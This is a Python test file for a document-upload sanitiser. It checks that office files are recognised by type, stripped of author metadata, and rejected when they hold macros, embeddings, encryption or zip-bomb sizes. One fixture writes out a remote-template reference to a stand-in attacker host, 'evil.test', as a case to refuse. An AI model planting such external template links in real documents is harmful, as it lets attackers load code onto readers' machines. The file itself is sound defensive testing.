"""What people write in: told by what is in it, and passed on without programs."""

from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import pytest
from xlsxwriter import Workbook

from bot.papers import office
from bot.papers.document import document_of, named
from bot.papers.faults import Fault, NotADocument

OOXML = "application/vnd.openxmlformats-officedocument."
ODF = "application/vnd.oasis.opendocument."
CORE = (
    b"<cp:coreProperties><dc:creator>Dr Secret</dc:creator><dc:title>Plan</dc:title>"
    b"<cp:lastModifiedBy>Secret, too</cp:lastModifiedBy></cp:coreProperties>"
)
FROM_AFAR = (
    b'<Relationship Type="x/attachedTemplate" '
    b'Target="https://evil.test/a.dotm" TargetMode="External"/>'
)
MAIN = "wordprocessingml.document"


def zipped(parts: dict[str, bytes]) -> bytes:
    made = BytesIO()
    with ZipFile(made, "w", ZIP_DEFLATED) as packed:
        for name, data in parts.items():
            packed.writestr(name, data)
    return made.getvalue()


def contents(main: str) -> bytes:
    said = f'<Override PartName="/x" ContentType="{OOXML}{main}.main+xml"/>'
    return f"<Types>{said}</Types>".encode()


def word(more: dict[str, bytes] | None = None, main: str = MAIN) -> bytes:
    told = {"[Content_Types].xml": contents(main), "docProps/core.xml": CORE}
    return zipped({**told, "word/document.xml": b"<w:t>Hello</w:t>", **(more or {})})


def written(more: dict[str, bytes] | None = None, kind: str = "text") -> bytes:
    told = {"mimetype": f"{ODF}{kind}".encode(), "content.xml": b"<text:p>Hello"}
    return zipped({**told, **(more or {})})


def claiming(size: int) -> bytes:
    """Of its last part, that it unfolds into so many bytes."""
    data = bytearray(word())
    at = data.rindex(b"PK\x01\x02") + 24
    data[at : at + 4] = size.to_bytes(4, "little")
    return bytes(data)


def fault_of(data: bytes) -> Fault:
    with pytest.raises(NotADocument) as told:
        document_of(data)
    return told.value.fault


@pytest.mark.parametrize(
    ("main", "ending"),
    [
        (MAIN, "docx"),
        ("spreadsheetml.sheet", "xlsx"),
        ("presentationml.presentation", "pptx"),
        ("presentationml.slideshow", "ppsx"),
    ],
)
def test_what_office_writes_is_known_whatever_it_is_called(main: str, ending: str):
    kept = document_of(word(main=main))
    assert kept.mime == f"{OOXML}{main}"
    assert named(kept, "holiday.jpg").name == f"holiday.{ending}"


@pytest.mark.parametrize(
    ("kind", "ending"),
    [("text", "odt"), ("spreadsheet", "ods"), ("presentation", "odp")],
)
def test_so_is_what_libre_office_writes(kind: str, ending: str):
    assert named(document_of(written(kind=kind)), "a").name == f"document.{ending}"


def test_a_real_workbook_is_whole_and_says_no_more_who_wrote_it():
    made = BytesIO()
    with Workbook(made) as book:
        book.set_properties({"author": "Dr Secret", "company": "Secret & Co"})
        book.add_worksheet("Plan").write("A1", 42)

    kept = document_of(made.getvalue())

    with ZipFile(BytesIO(kept.data)) as packed, ZipFile(made) as was:
        assert packed.namelist() == was.namelist()
        assert packed.testzip() is None
        sheet = "xl/worksheets/sheet1.xml"
        assert packed.read(sheet) == was.read(sheet)
        assert not any(b"Secret" in packed.read(each) for each in packed.namelist())


@pytest.mark.parametrize(
    "data",
    [
        word({"word/vbaProject.bin": b"x"}),
        word({"xl/macrosheets/sheet1.xml": b"x"}),
        word({"word/activeX/activeX1.xml": b"x"}),
        word({"word/embeddings/oleObject1.bin": b"x"}),
        word({"word/embeddings/Sheet.xlsm": b"x"}),
        written({"Basic/Standard/Module1.xml": b"x"}),
        written({"Scripts/python/run.py": b"x"}),
        zipped({"[Content_Types].xml": b'<Default ContentType="a/b.macroEnabled"/>'}),
        word({"word/_rels/settings.xml.rels": FROM_AFAR}),
    ],
)
def test_a_file_with_a_program_in_it_is_refused(data: bytes):
    assert fault_of(data) is Fault.MACROS


def test_one_with_a_password_or_of_the_old_kind_says_so():
    old = office.OLE + b"\0" * 600
    assert fault_of(old) is Fault.OLD
    assert fault_of(old + office.WITH_PASSWORD) is Fault.LOCKED
    manifest = b"<manifest:encryption-data/>"
    assert fault_of(written({"META-INF/manifest.xml": manifest})) is Fault.LOCKED
    flagged = bytearray(word())
    flagged[flagged.rindex(b"PK\x01\x02") + 8] |= 1
    assert fault_of(bytes(flagged)) is Fault.LOCKED


def test_what_unfolds_into_too_much_is_never_unfolded():
    assert fault_of(claiming(office.MOST_UNPACKED)) is Fault.UNFOLDS
    long = zipped({"[Content_Types].xml": b" " * 1_000_001})
    assert fault_of(long) is Fault.UNFOLDS


@pytest.mark.parametrize(
    "data",
    [
        zipped({"readme": b"only a zip"}),
        word()[:-40],
        claiming(3),
        zipped({"mimetype": b"application/epub+zip"}),
        zipped(
            {"[Content_Types].xml": contents(MAIN) + contents("spreadsheetml.sheet")}
        ),
        b"PK\x03\x04" + b"\xff" * 100,
    ],
)
def test_another_zip_and_a_damaged_one_are_no_document(data: bytes):
    assert fault_of(data) is Fault.KIND


def test_of_a_damaged_part_nothing_is_passed_on():
    data = bytearray(word())
    data[data.rindex(b"word/document.xml", 0, -100) + 20] ^= 0xFF
    assert fault_of(bytes(data)) is Fault.KIND
